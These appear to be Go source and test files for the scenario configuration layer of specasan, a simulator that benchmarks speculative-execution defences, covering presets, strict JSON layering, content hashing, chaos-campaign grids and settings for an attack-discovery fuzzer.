	// Scheduling and failure handling: result-neutral by contract (the
	// determinism tests pin workers-independence and serial-vs-parallel
	// core stepping bit-identity; retries only decide whether a success
	// exists, never what it contains).
	c.Run.Workers = 0
	c.Run.ParallelCores = 0
	c.Run.RetryBudgetFactor = 0
	c.Run.MaxRetries = 0
	// Trace record/replay: result-neutral by contract (replay is
	// bit-identical to live decode — pinned by the replay fingerprint
	// tests — and recording only produces a side-band artifact).
	c.Run.TraceRecord = false
	c.Run.TraceReplay = false
	if c.Chaos != nil {
		cc := *c.Chaos
		// Seed0/Seeds/Kinds enumerate chaos cells (cell-key coordinates);
		// VerdictSeeds drives a separate uncached sweep. Rate and MaxLatency
		// stay: they shape every injected fault schedule.
		cc.Seeds, cc.Seed0, cc.Kinds, cc.VerdictSeeds = 0, 0, nil, 0
		c.Chaos = &cc
	}
	b, err := json.Marshal(&c)
	if err != nil {
		panic(fmt.Sprintf("scenario: result-canonical marshal: %v", err))
	}
	sum := sha256.Sum256(b)
	return hex.EncodeToString(sum[:8])
}

// CellKey derives the store name of one sweep cell: a human-readable
// benchmark__mitigation slug plus a short hash of the exact raw names, so
// two cells whose names differ only in sanitized characters cannot collide.
func CellKey(bench, mitigation string) string {
	return cellKey(bench + "__" + mitigation)
}

// ChaosCellKey derives the store name of one chaos-campaign cell: workload
// and mitigation plus the chaos grid coordinates (fault-kind set and seed)
// that complete the cell's identity.
func ChaosCellKey(bench, mitigation string, kinds []string, seed uint64) string {
	return cellKey(fmt.Sprintf("%s__%s__%s__s%d",
		bench, mitigation, strings.Join(kinds, "+"), seed))
}

// cellKey sanitizes raw into a filesystem-safe slug and appends an 8-hex
// collision guard over the unsanitized bytes.
func cellKey(raw string) string {
	slug := sanitize(raw)
	sum := sha256.Sum256([]byte(raw))
	const maxSlug = 100 // keep names comfortably under filesystem limits
	if len(slug) > maxSlug {
		slug = slug[:maxSlug]
	}
	return slug + "-" + hex.EncodeToString(sum[:4])
}

// sanitize maps raw onto the store's safe-name alphabet ([A-Za-z0-9._-],
// not starting with a dot or dash).
func sanitize(raw string) string {
	var b strings.Builder
	for i := 0; i < len(raw); i++ {
		c := raw[i]
		switch {
		case c >= 'a' && c <= 'z', c >= 'A' && c <= 'Z', c >= '0' && c <= '9',
			c == '.', c == '_', c == '-':
			if b.Len() == 0 && (c == '.' || c == '-') {
				b.WriteByte('_')
			} else {
				b.WriteByte(c)
			}
		default:
			b.WriteByte('_')
		}
	}
	if b.Len() == 0 {
		return "_"
	}
	return b.String()
}
