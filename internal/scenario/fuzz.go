package scenario

// FuzzOptions configures an attack-discovery fuzzing run (specasan-fuzz):
// the generator seed and the stopping rule. Exactly one of Candidates
// (deterministic count — same seed gives a byte-identical PoC corpus at any
// worker count) or BudgetSeconds (wall-clock bound: whole candidate batches
// run until the budget expires) is typically set; with both, whichever
// limit hits first stops the run.
type FuzzOptions struct {
	// Seed drives candidate generation; candidate i is a pure function of
	// (Seed, i).
	Seed uint64 `json:"seed"`
	// Candidates is the number of candidates to generate and evaluate
	// (0 = unbounded, rely on BudgetSeconds).
	Candidates int `json:"candidates,omitempty"`
	// BudgetSeconds bounds the run's wall-clock time (0 = no bound).
	BudgetSeconds int `json:"budget_seconds,omitempty"`
}

// PoCScenario emits the pinned scenario document embedded in each fuzzer
// find: the paper's default machine, the sweep's mitigation columns, and
// the minimised PoC assembly as a file workload — so a find replays through
// the standard sweep harness (`specasan-sim -scenario <poc>.json`) with the
// same identity hashing every other result carries.
func PoCScenario(name, asmPath string, mitigations []string) *Scenario {
	s := Default()
	s.Name = name
	s.Extends = ""
	s.Mitigations = append([]string(nil), mitigations...)
	s.Workloads = []string{FileWorkloadPrefix + asmPath}
	s.Run = DefaultRunOptions()
	// Generated PoCs finish in a few thousand cycles; the bound only fences
	// runaways.
	s.Run.MaxCycles = 400_000
	return s
}
