package scenario

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
)

// Load resolves a -scenario argument: a preset name (case-insensitive) or a
// path to a scenario file. The result is validated.
func Load(nameOrPath string) (*Scenario, error) {
	if s, ok := Preset(nameOrPath); ok {
		if err := s.Validate(); err != nil {
			return nil, fmt.Errorf("preset %q: %w", nameOrPath, err)
		}
		return s, nil
	}
	if _, err := os.Stat(nameOrPath); err != nil {
		return nil, fmt.Errorf("scenario: %q is neither a preset (%s) nor a readable file",
			nameOrPath, strings.Join(PresetNames(), ", "))
	}
	return LoadFile(nameOrPath)
}

// LoadFile reads a scenario file and layers it over its base preset; see
// Parse for the layering rules. The scenario takes its name from the file
// when the file names itself, else from the file's basename.
func LoadFile(path string) (*Scenario, error) {
	data, err := os.ReadFile(path)
	if err != nil {
		return nil, fmt.Errorf("scenario: %w", err)
	}
	name := filepath.Base(path)
	return Parse(data, path, strings.TrimSuffix(name, filepath.Ext(name)))
}

// Parse layers a scenario document over its base preset: the document's
// "extends" field names the preset ("table2" when absent); only the fields
// the document spells out override the base. Unknown fields are an error
// (strict decode), so a typo'd knob fails loudly instead of silently running
// the base value. label names the document in errors (a path, a request id);
// defaultName is the scenario name when the document does not name itself.
// The sweep service parses request bodies through this same path, so a
// document behaves identically on disk and over the wire.
func Parse(data []byte, label, defaultName string) (*Scenario, error) {
	// First pass: provenance fields only, to pick the base and to learn
	// whether the document names itself.
	var peek struct {
		Name    *string `json:"name"`
		Extends string  `json:"extends"`
	}
	if err := json.Unmarshal(data, &peek); err != nil {
		return nil, fmt.Errorf("scenario %s: %w", label, err)
	}
	baseName := peek.Extends
	if baseName == "" {
		baseName = PresetTable2
	}
	s, ok := Preset(baseName)
	if !ok {
		return nil, fmt.Errorf("scenario %s: extends unknown preset %q (have %s)",
			label, baseName, strings.Join(PresetNames(), ", "))
	}
	// Second pass: strict-decode the document over the populated base, so
	// JSON merge semantics apply — absent fields keep their preset values.
	dec := json.NewDecoder(bytes.NewReader(data))
	dec.DisallowUnknownFields()
	if err := dec.Decode(s); err != nil {
		return nil, fmt.Errorf("scenario %s: %w", label, err)
	}
	if dec.More() {
		return nil, fmt.Errorf("scenario %s: trailing data after document", label)
	}
	s.Extends = baseName
	if peek.Name == nil {
		s.Name = defaultName
	}
	if err := s.Validate(); err != nil {
		return nil, fmt.Errorf("scenario %s: %w", label, err)
	}
	return s, nil
}
