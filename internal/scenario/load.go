package scenario

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
)

// Load resolves a -scenario argument: a preset name (case-insensitive) or a
// path to a scenario file. The result is validated.
func Load(nameOrPath string) (*Scenario, error) {
	if s, ok := Preset(nameOrPath); ok {
		if err := s.Validate(); err != nil {
			return nil, fmt.Errorf("preset %q: %w", nameOrPath, err)
		}
		return s, nil
	}
	if _, err := os.Stat(nameOrPath); err != nil {
		return nil, fmt.Errorf("scenario: %q is neither a preset (%s) nor a readable file",
			nameOrPath, strings.Join(PresetNames(), ", "))
	}
	return LoadFile(nameOrPath)
}

// LoadFile reads a scenario file and layers it over its base preset: the
// file's "extends" field names the preset ("table2" when absent); only the
// fields the file spells out override the base. Unknown fields are an error
// (strict decode), so a typo'd knob fails loudly instead of silently running
// the base value. The scenario takes its name from the file when the file
// names itself, else from the file's basename.
func LoadFile(path string) (*Scenario, error) {
	data, err := os.ReadFile(path)
	if err != nil {
		return nil, fmt.Errorf("scenario: %w", err)
	}
	// First pass: provenance fields only, to pick the base and to learn
	// whether the file names itself.
	var peek struct {
		Name    *string `json:"name"`
		Extends string  `json:"extends"`
	}
	if err := json.Unmarshal(data, &peek); err != nil {
		return nil, fmt.Errorf("scenario %s: %w", path, err)
	}
	baseName := peek.Extends
	if baseName == "" {
		baseName = PresetTable2
	}
	s, ok := Preset(baseName)
	if !ok {
		return nil, fmt.Errorf("scenario %s: extends unknown preset %q (have %s)",
			path, baseName, strings.Join(PresetNames(), ", "))
	}
	// Second pass: strict-decode the file over the populated base, so JSON
	// merge semantics apply — absent fields keep their preset values.
	dec := json.NewDecoder(bytes.NewReader(data))
	dec.DisallowUnknownFields()
	if err := dec.Decode(s); err != nil {
		return nil, fmt.Errorf("scenario %s: %w", path, err)
	}
	if dec.More() {
		return nil, fmt.Errorf("scenario %s: trailing data after document", path)
	}
	s.Extends = baseName
	if peek.Name == nil {
		name := filepath.Base(path)
		s.Name = strings.TrimSuffix(name, filepath.Ext(name))
	}
	if err := s.Validate(); err != nil {
		return nil, fmt.Errorf("scenario %s: %w", path, err)
	}
	return s, nil
}
