package scenario

import (
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"
)

var updateGolden = flag.Bool("update", false,
	"rewrite examples/scenarios/scenarios.sum from the current files")

const (
	exampleDir = "../../examples/scenarios"
	sumFile    = exampleDir + "/scenarios.sum"
)

// TestExampleScenarioGoldenHashes validates every checked-in example
// scenario and pins its canonical content hash: each file must load (strict
// decode + Validate) and hash to exactly the value recorded in
// scenarios.sum. A hash drift means either the file changed (update the sum
// deliberately, with `go test ./internal/scenario -update`) or the hashing/
// layering semantics changed (which silently orphans every recorded result —
// fix the code, not the sum).
func TestExampleScenarioGoldenHashes(t *testing.T) {
	files, err := filepath.Glob(exampleDir + "/*.json")
	if err != nil {
		t.Fatal(err)
	}
	if len(files) == 0 {
		t.Fatalf("no example scenarios in %s", exampleDir)
	}
	sort.Strings(files)
	var b strings.Builder
	for _, f := range files {
		s, err := LoadFile(f)
		if err != nil {
			t.Fatalf("example scenario rejected: %v", err)
		}
		fmt.Fprintf(&b, "%s  %s\n", s.Hash(), filepath.Base(f))
	}
	got := b.String()
	if *updateGolden {
		if err := os.WriteFile(sumFile, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
		t.Logf("updated %s", sumFile)
		return
	}
	want, err := os.ReadFile(sumFile)
	if err != nil {
		t.Fatalf("%v (run `go test ./internal/scenario -update` to create it)", err)
	}
	if got != string(want) {
		t.Errorf("scenario hashes drifted from %s:\n--- recorded\n%s--- computed\n%s", sumFile, want, got)
	}
}
