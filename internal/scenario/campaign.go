package scenario

import (
	"specasan/internal/chaos"
)

// CampaignCells expands a chaos scenario into its full campaign grid —
// workloads × mitigations × kind sets (each kind alone, plus all kinds
// combined when there is more than one) × seeds — in grid order, with each
// cell's store key derived via ChaosCellKey so campaigns can run against the
// result cache. This is the one expansion both specasan-chaos and the sweep
// service use; keeping it here means a scenario document enumerates the same
// cells no matter which frontend runs it. Scenarios without a chaos section
// expand to nil.
func (s *Scenario) CampaignCells() ([]chaos.CampaignCell, error) {
	if s.Chaos == nil {
		return nil, nil
	}
	kinds, err := s.ChaosKinds()
	if err != nil {
		return nil, err
	}
	specs, err := s.WorkloadSpecs()
	if err != nil {
		return nil, err
	}
	mits, err := s.MitigationList()
	if err != nil {
		return nil, err
	}
	// Grid columns: each kind alone (isolating which perturbation breaks
	// state), plus all kinds combined (their interactions).
	kindSets := make([][]chaos.Kind, 0, len(kinds)+1)
	for _, k := range kinds {
		kindSets = append(kindSets, []chaos.Kind{k})
	}
	if len(kinds) > 1 {
		kindSets = append(kindSets, kinds)
	}
	machine := s.Machine
	var cells []chaos.CampaignCell
	for _, spec := range specs {
		for _, mit := range mits {
			for _, ks := range kindSets {
				names := make([]string, len(ks))
				for i, k := range ks {
					names[i] = k.String()
				}
				for i := 0; i < s.Chaos.Seeds; i++ {
					seed := s.Chaos.Seed0 + uint64(i)
					cells = append(cells, chaos.CampaignCell{
						Spec: spec, Mit: mit,
						Cfg: chaos.Config{
							Seed: seed, Kinds: ks,
							Rate: s.Chaos.Rate, MaxLatency: s.Chaos.MaxLatency,
							Machine: &machine,
						},
						Key: ChaosCellKey(spec.Name, mit.String(), names, seed),
					})
				}
			}
		}
	}
	return cells, nil
}
