package scenario

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"specasan/internal/core"
)

// Every preset must validate and hash deterministically, and repeated
// Preset calls must return independent copies.
func TestPresetsValidateAndHashStable(t *testing.T) {
	for _, name := range PresetNames() {
		s, ok := Preset(name)
		if !ok {
			t.Fatalf("preset %q missing", name)
		}
		if err := s.Validate(); err != nil {
			t.Errorf("preset %q invalid: %v", name, err)
		}
		h1 := s.Hash()
		s2, _ := Preset(name)
		if h2 := s2.Hash(); h1 != h2 {
			t.Errorf("preset %q hash unstable: %s vs %s", name, h1, h2)
		}
		s.Mitigations[0] = "clobbered"
		if s3, _ := Preset(name); s3.Mitigations[0] == "clobbered" {
			t.Errorf("preset %q shares slices across calls", name)
		}
	}
	if _, ok := Preset("TABLE2"); !ok {
		t.Error("preset lookup should be case-insensitive")
	}
	if _, ok := Preset("no-such-preset"); ok {
		t.Error("unknown preset resolved")
	}
}

// Marshal -> unmarshal must round-trip to an equal scenario with the same
// hash.
func TestScenarioRoundTrip(t *testing.T) {
	s := Default()
	s.Name = "round-trip"
	b, err := s.MarshalJSONIndent()
	if err != nil {
		t.Fatal(err)
	}
	var got Scenario
	if err := json.Unmarshal(b, &got); err != nil {
		t.Fatal(err)
	}
	if err := got.Validate(); err != nil {
		t.Fatalf("round-tripped scenario invalid: %v", err)
	}
	if got.Hash() != s.Hash() {
		t.Fatalf("hash changed across round trip: %s vs %s", got.Hash(), s.Hash())
	}
}

// The hash is content identity: provenance fields (Name, Extends) must not
// move it, every behaviour-determining field must.
func TestHashSemantics(t *testing.T) {
	a := Default()
	b := Default()
	b.Name, b.Extends = "renamed", "figure6"
	if a.Hash() != b.Hash() {
		t.Error("Name/Extends changed the hash; they are provenance, not content")
	}
	c := Default()
	c.Machine.L1DSizeKB *= 2
	if c.Hash() == a.Hash() {
		t.Error("machine change did not move the hash")
	}
	d := Default()
	d.Mitigations = d.Mitigations[:1]
	if d.Hash() == a.Hash() {
		t.Error("mitigation-list change did not move the hash")
	}
	e := Default()
	e.Run.Scale = 0.5
	if e.Hash() == a.Hash() {
		t.Error("run-option change did not move the hash")
	}
	// Sampling knobs produce estimated cycle counts, so they are
	// result-relevant: a sampled run must never collide with a full run in
	// the result store.
	f := Default()
	f.Run.FastForwardInsts = 1_000_000
	if f.ResultHash() == a.ResultHash() {
		t.Error("fast_forward_insts did not move the result hash")
	}
	g := Default()
	g.Run.SampleWindows = 4
	g.Run.SampleWindowInsts = 10_000
	if g.ResultHash() == a.ResultHash() || g.ResultHash() == f.ResultHash() {
		t.Error("window knobs did not move the result hash")
	}
	if len(a.Hash()) != 16 {
		t.Errorf("hash should be 16 hex chars, got %q", a.Hash())
	}
}

func writeScenarioFile(t *testing.T, body string) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "scen.json")
	if err := os.WriteFile(path, []byte(body), 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}

// A file layers over its extends-preset: fields it names override, fields it
// omits keep preset values — including nested machine fields.
func TestLoadFileLayering(t *testing.T) {
	path := writeScenarioFile(t, `{
		"extends": "figure6",
		"machine": {"L1DSizeKB": 128},
		"run": {"scale": 0.25, "max_cycles": 200000000, "workers": 0, "skip_idle": true}
	}`)
	s, err := LoadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	base, _ := Preset(PresetFigure6)
	if s.Machine.L1DSizeKB != 128 {
		t.Errorf("file override lost: L1DSizeKB = %d", s.Machine.L1DSizeKB)
	}
	if s.Machine.L2SizeKB != base.Machine.L2SizeKB {
		t.Errorf("unnamed machine field did not inherit: L2SizeKB = %d", s.Machine.L2SizeKB)
	}
	if len(s.Mitigations) != len(base.Mitigations) {
		t.Errorf("mitigations should inherit from figure6, got %v", s.Mitigations)
	}
	if s.Run.Scale != 0.25 {
		t.Errorf("run override lost: scale = %v", s.Run.Scale)
	}
	if s.Name != "scen" {
		t.Errorf("name should default to file basename, got %q", s.Name)
	}
	if s.Extends != PresetFigure6 {
		t.Errorf("extends not recorded, got %q", s.Extends)
	}
}

// Strict decode: a typo'd field must fail loudly, not silently run the base.
func TestLoadFileRejectsUnknownFields(t *testing.T) {
	path := writeScenarioFile(t, `{"extends": "table2", "machin": {"Cores": 2}}`)
	if _, err := LoadFile(path); err == nil || !strings.Contains(err.Error(), "machin") {
		t.Fatalf("unknown field accepted (err=%v)", err)
	}
}

func TestLoadFileRejectsUnknownExtends(t *testing.T) {
	path := writeScenarioFile(t, `{"extends": "tabel2"}`)
	if _, err := LoadFile(path); err == nil || !strings.Contains(err.Error(), "tabel2") {
		t.Fatalf("unknown extends accepted (err=%v)", err)
	}
}

// Load resolves presets first, then files, and names the alternatives when
// neither matches.
func TestLoadResolution(t *testing.T) {
	if s, err := Load("figure6"); err != nil || s.Name != PresetFigure6 {
		t.Fatalf("preset load: %v, %v", s, err)
	}
	if _, err := Load("not-a-preset-or-file"); err == nil {
		t.Fatal("bogus argument accepted")
	}
}

// Validate must name the first offending field for each rejection class.
func TestValidateRejections(t *testing.T) {
	cases := []struct {
		name   string
		mutate func(*Scenario)
		want   string
	}{
		{"version", func(s *Scenario) { s.Version = 2 }, "version"},
		{"machine", func(s *Scenario) { s.Machine.LFBEntries = 0 }, "LFBEntries"},
		{"no mitigations", func(s *Scenario) { s.Mitigations = nil }, "no mitigations"},
		{"bad mitigation", func(s *Scenario) { s.Mitigations = []string{"Nope"} }, "Nope"},
		{"no workloads", func(s *Scenario) { s.Workloads = nil }, "no workloads"},
		{"bad workload", func(s *Scenario) { s.Workloads = []string{"999.bogus"} }, "999.bogus"},
		{"empty file workload", func(s *Scenario) { s.Workloads = []string{"file:"} }, "workload path"},
		{"scale", func(s *Scenario) { s.Run.Scale = 0 }, "scale"},
		{"max_cycles", func(s *Scenario) { s.Run.MaxCycles = 0 }, "max_cycles"},
		{"workers", func(s *Scenario) { s.Run.Workers = -1 }, "workers"},
		{"chaos seeds", func(s *Scenario) { s.Chaos = &ChaosOptions{Seeds: 0, Rate: 0.1, MaxLatency: 10} }, "seeds"},
		{"chaos rate", func(s *Scenario) { s.Chaos = &ChaosOptions{Seeds: 1, Rate: 1.5, MaxLatency: 10} }, "rate"},
		{"chaos kind", func(s *Scenario) {
			s.Chaos = &ChaosOptions{Seeds: 1, Rate: 0.1, MaxLatency: 10, Kinds: []string{"gremlin"}}
		}, "gremlin"},
		{"negative windows", func(s *Scenario) { s.Run.SampleWindows = -1 }, "sample_windows"},
		{"windows without length", func(s *Scenario) { s.Run.SampleWindows = 4 }, "sample_window_insts"},
		{"length without windows", func(s *Scenario) { s.Run.SampleWindowInsts = 1000 }, "sample_windows > 1"},
		{"sampling with chaos", func(s *Scenario) {
			s.Run.FastForwardInsts = 1000
			s.Chaos = &ChaosOptions{Seeds: 1, Rate: 0.1, MaxLatency: 10}
		}, "incompatible"},
		{"fuzz negative candidates", func(s *Scenario) {
			s.Fuzz = &FuzzOptions{Seed: 1, Candidates: -1}
		}, "candidates"},
		{"fuzz negative budget", func(s *Scenario) {
			s.Fuzz = &FuzzOptions{Seed: 1, BudgetSeconds: -1}
		}, "budget_seconds"},
		{"fuzz no stopping rule", func(s *Scenario) {
			s.Fuzz = &FuzzOptions{Seed: 1}
		}, "candidates or budget_seconds"},
	}
	for _, tc := range cases {
		s := Default()
		tc.mutate(s)
		err := s.Validate()
		if err == nil {
			t.Errorf("%s: accepted", tc.name)
			continue
		}
		if !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%s: error %q does not name %q", tc.name, err, tc.want)
		}
	}
	if err := Default().Validate(); err != nil {
		t.Errorf("default scenario invalid: %v", err)
	}
}

// The shared CLI list helpers: case-insensitive mitigation names, trimmed
// CSV, real errors for unknowns.
func TestParseLists(t *testing.T) {
	mits, err := ParseMitigationList(" unsafe, SPECASAN ,SpecASan+CFI")
	if err != nil {
		t.Fatal(err)
	}
	want := []core.Mitigation{core.Unsafe, core.SpecASan, core.SpecASanCFI}
	for i, m := range want {
		if mits[i] != m {
			t.Errorf("mits[%d] = %v, want %v", i, mits[i], m)
		}
	}
	if _, err := ParseMitigationList("Unsafe,Bogus"); err == nil {
		t.Error("unknown mitigation accepted")
	}
	specs, err := ParseWorkloadList("505.mcf_r, 541.leela_r")
	if err != nil || len(specs) != 2 {
		t.Fatalf("workload list: %v, %d specs", err, len(specs))
	}
	if _, err := ParseWorkloadList("505.mcf_r,nope"); err == nil {
		t.Error("unknown workload accepted")
	}
}

// The DoM policy exists purely as registry data and resolves by name.
func TestDelayOnMissRegistered(t *testing.T) {
	m, err := core.ParseMitigation("delayonmiss")
	if err != nil {
		t.Fatal(err)
	}
	if m != DelayOnMiss {
		t.Fatalf("parsed %v, want %v", m, DelayOnMiss)
	}
	d := m.Descriptor()
	if !d.DelayOnMiss || d.MTE || d.SpecTagChecks || d.FenceLoads || d.Taint || d.GhostFills || d.CFI {
		t.Fatalf("DelayOnMiss descriptor has wrong bits: %+v", d)
	}
	if d.Knob("lfb_hit_ok", 0) != 1 {
		t.Fatal("lfb_hit_ok knob missing")
	}
}
