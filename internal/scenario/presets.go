package scenario

import (
	"fmt"
	"sort"
	"strings"

	"specasan/internal/core"
	"specasan/internal/workloads"
)

// DelayOnMiss is the delay-on-miss defence (DoM class: speculative loads
// that miss the L1D are held until speculation resolves; hits proceed).
// It exists purely as registry data — a descriptor bit plus one issue-gate
// hook in internal/cpu reads it; no enum case anywhere names it. It is the
// proof of the policy-registry seam: a ninth defence wired into the sweep
// matrix (the "ablations" preset) without touching a switch.
var DelayOnMiss = core.MustRegisterPolicy(core.PolicyDescriptor{
	Name:        "DelayOnMiss",
	Class:       "delay miss ACCESS",
	DelayOnMiss: true,
	Knobs:       map[string]uint64{"lfb_hit_ok": 1},
})

// Preset names. Each returns a complete, validated scenario; `extends` in a
// scenario file and -scenario on the CLIs accept these names.
const (
	PresetTable2     = "table2"
	PresetFigure6    = "figure6"
	PresetFigure7    = "figure7"
	PresetFigure8    = "figure8"
	PresetFigure9    = "figure9"
	PresetAblations  = "ablations"
	PresetChaosSmoke = "chaos-smoke"
	PresetFuzzSmoke  = "fuzz-smoke"
)

// Default returns the table2 preset: the paper's machine under every paper
// defence over the SPEC suite — the base every other layer overrides.
func Default() *Scenario { s, _ := Preset(PresetTable2); return s }

// Preset returns a fresh copy of the named preset (case-insensitive), or
// ok=false. Copies are deep enough to mutate freely: slices are built per
// call.
func Preset(name string) (*Scenario, bool) {
	base := func(n string, mits []core.Mitigation, specs []*workloads.Spec) *Scenario {
		return &Scenario{
			Version:     Version,
			Name:        n,
			Machine:     core.DefaultConfig(),
			Mitigations: MitigationNames(mits),
			Workloads:   WorkloadNames(specs),
			Run:         DefaultRunOptions(),
		}
	}
	switch strings.ToLower(strings.TrimSpace(name)) {
	case PresetTable2:
		return base(PresetTable2, core.AllMitigations(), workloads.SPEC()), true
	case PresetFigure6:
		return base(PresetFigure6, figure6Mitigations(), workloads.SPEC()), true
	case PresetFigure7:
		return base(PresetFigure7, figure6Mitigations(), workloads.PARSEC()), true
	case PresetFigure8:
		return base(PresetFigure8,
			[]core.Mitigation{core.Unsafe, core.Fence, core.STT, core.SpecASan},
			append(workloads.SPEC(), workloads.PARSEC()...)), true
	case PresetFigure9:
		return base(PresetFigure9,
			[]core.Mitigation{core.Unsafe, core.SpecCFI, core.SpecASan, core.SpecASanCFI},
			workloads.SPEC()), true
	case PresetAblations:
		// The registry-extension matrix: SpecASan against the ninth,
		// registry-registered defence, normalised to the Unsafe baseline.
		return base(PresetAblations,
			[]core.Mitigation{core.Unsafe, core.SpecASan, DelayOnMiss},
			workloads.SPEC()), true
	case PresetChaosSmoke:
		s := base(PresetChaosSmoke,
			[]core.Mitigation{core.Unsafe, core.SpecASan},
			mustWorkloads("511.povray_r", "505.mcf_r", "541.leela_r"))
		s.Run.Scale = 0.02
		s.Run.MaxCycles = 100_000_000
		s.Chaos = &ChaosOptions{
			Seeds: 8, Seed0: 1, Rate: 0.02, MaxLatency: 200, VerdictSeeds: 2,
		}
		return s, true
	case PresetFuzzSmoke:
		// Attack-discovery smoke: a small deterministic candidate batch
		// over every registered defence (specasan-fuzz resolves the
		// mitigation list; workloads are unused but a scenario must name
		// one to validate).
		s := base(PresetFuzzSmoke,
			core.RegisteredMitigations(),
			mustWorkloads("505.mcf_r"))
		s.Run.MaxCycles = 400_000
		s.Fuzz = &FuzzOptions{Seed: 1, Candidates: 64}
		return s, true
	}
	return nil, false
}

// PresetNames lists the available presets, sorted.
func PresetNames() []string {
	names := []string{PresetTable2, PresetFigure6, PresetFigure7, PresetFigure8,
		PresetFigure9, PresetAblations, PresetChaosSmoke, PresetFuzzSmoke}
	sort.Strings(names)
	return names
}

// figure6Mitigations are the defence columns of Figures 6 and 7.
func figure6Mitigations() []core.Mitigation {
	return []core.Mitigation{core.Unsafe, core.Fence, core.STT,
		core.GhostMinion, core.SpecASan}
}

func mustWorkloads(names ...string) []*workloads.Spec {
	out := make([]*workloads.Spec, len(names))
	for i, n := range names {
		if out[i] = workloads.ByName(n); out[i] == nil {
			panic(fmt.Sprintf("scenario preset: unknown workload %q", n))
		}
	}
	return out
}
