// Package scenario is the declarative configuration layer of the
// reproduction: one Scenario value captures everything a run depends on —
// the simulated machine (Table 2 fields), the defence policies under test,
// the workload set, and the run/observability options — as a typed,
// versioned, JSON-serializable document with strict validation and a
// canonical content hash.
//
// Scenarios are layered: a named preset (table2, figure6, ...) provides the
// base, a scenario file overrides the fields it names (via "extends"), and
// CLI flags override individual values on top. Whatever the layering, the
// effective scenario hashes to a single stable identity that is stamped into
// every output (sweep metrics JSONL, BENCH_sim.json perf history, chaos
// campaign headers), so any recorded result is reproducible from its
// scenario alone.
package scenario

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"strings"

	"specasan/internal/chaos"
	"specasan/internal/core"
	"specasan/internal/workloads"
)

// Version is the scenario schema version this package reads and writes.
const Version = 1

// FileWorkloadPrefix marks a workload entry that is an assembly file path
// rather than a named kernel ("file:prog.s"). specasan-sim stamps
// single-file runs with such scenarios; sweep runners reject them.
const FileWorkloadPrefix = "file:"

// RunOptions are the cost/behaviour knobs of a run, shared by every
// harness entry point.
type RunOptions struct {
	// Scale multiplies every kernel's iteration count (1.0 ≈ 100k-200k
	// committed instructions per benchmark).
	Scale float64 `json:"scale"`
	// MaxCycles bounds each simulated run.
	MaxCycles uint64 `json:"max_cycles"`
	// Workers bounds sweep-cell concurrency (0 = GOMAXPROCS, 1 = serial).
	// Output is byte-identical for every value.
	Workers int `json:"workers"`
	// ParallelCores selects intra-machine stepping: 0 = auto (one
	// goroutine per simulated core when the cell's machine has several
	// cores and GOMAXPROCS > 1), 1 = force the serial core walk, >= 2 =
	// force parallel stepping. Results are bit-identical for every value
	// (the ResultHash normalizes it out); omitempty keeps pre-knob
	// scenario hashes.
	ParallelCores int `json:"parallel_cores,omitempty"`
	// SkipIdle enables event-driven idle-cycle skipping
	// (exactness-preserving).
	SkipIdle bool `json:"skip_idle"`
	// RetryBudgetFactor scales MaxCycles on each escalated-budget retry of a
	// timed-out sweep cell (the policy PR 1 hardcoded at 4; now a knob the
	// CLIs and the serve daemon share).
	RetryBudgetFactor uint64 `json:"retry_budget_factor"`
	// MaxRetries bounds how many escalated-budget retries a timed-out cell
	// gets before it is declared failed (0 = fail on the first timeout).
	MaxRetries int `json:"max_retries"`

	// The sampling knobs below select fast-forward sampled simulation: part
	// of a run executes on the functional golden interpreter (hundreds of
	// MIPS) and only sampled windows pay cycle-accurate cost. They are
	// result-relevant (sampled cycle counts are estimates), so they stay in
	// the ResultHash — a sampled run can never cache-collide with a full
	// run. All use omitempty so pre-sampling scenarios keep their hashes.

	// FastForwardInsts, when > 0, executes the first N instructions of every
	// single-core cell functionally before switching to cycle-accurate
	// simulation. Without SampleWindows the rest of the run is fully
	// detailed ("tail mode"). Multi-threaded cells fall back to full runs.
	FastForwardInsts uint64 `json:"fast_forward_insts,omitempty"`
	// SampleWindows, when > 1, measures that many evenly-spaced detailed
	// windows of SampleWindowInsts instructions each across the (functionally
	// pre-walked) run, and extrapolates whole-run cycles from their pooled
	// IPC. 0 and 1 both mean tail mode.
	SampleWindows int `json:"sample_windows,omitempty"`
	// SampleWindowInsts is the detailed length of each sampled window;
	// required exactly when SampleWindows > 1.
	SampleWindowInsts uint64 `json:"sample_window_insts,omitempty"`
	// WarmupCycles is the micro-architectural warmup budget: detailed cycles
	// executed after a state transplant (and before the -perf steady-state
	// measurement) whose counters are excluded from IPC estimates. 0 means
	// the harness default (2000).
	WarmupCycles uint64 `json:"warmup_cycles,omitempty"`

	// The trace knobs below select recorded-workload replay (internal/trace):
	// a workload build's instruction stream is recorded once as a
	// content-addressed artifact and later runs fetch from the recording
	// instead of regenerating and reassembling source. Replay is
	// bit-identical to live decode (pinned by test) and recording is a pure
	// side effect, so both knobs are normalized out of the ResultHash —
	// replayed and live cells share cached results. omitempty keeps
	// pre-trace scenario hashes.

	// TraceRecord records each workload build the first time its identity
	// runs (record-once; an existing recording is never overwritten).
	TraceRecord bool `json:"trace_record,omitempty"`
	// TraceReplay runs each cell through the recorded trace's frontend. A
	// missing recording fails the cell unless TraceRecord is also set, which
	// records on miss and then replays.
	TraceReplay bool `json:"trace_replay,omitempty"`
}

// Sampling reports whether the run options select fast-forward sampled
// simulation (tail mode or windowed mode).
func (r *RunOptions) Sampling() bool {
	return r.FastForwardInsts > 0 || r.SampleWindows > 1
}

// ChaosOptions configure a fault-injection campaign (specasan-chaos).
type ChaosOptions struct {
	// Seeds is the number of chaos seeds per grid cell, starting at Seed0.
	Seeds int    `json:"seeds"`
	Seed0 uint64 `json:"seed0"`
	// Kinds names the fault kinds to inject; empty means every kind.
	Kinds []string `json:"kinds,omitempty"`
	// Rate is the per-opportunity injection probability.
	Rate float64 `json:"rate"`
	// MaxLatency caps injected latency in cycles.
	MaxLatency uint64 `json:"max_latency"`
	// VerdictSeeds is the seed count for the Table 1 verdict-invariance
	// sweep (0 disables it).
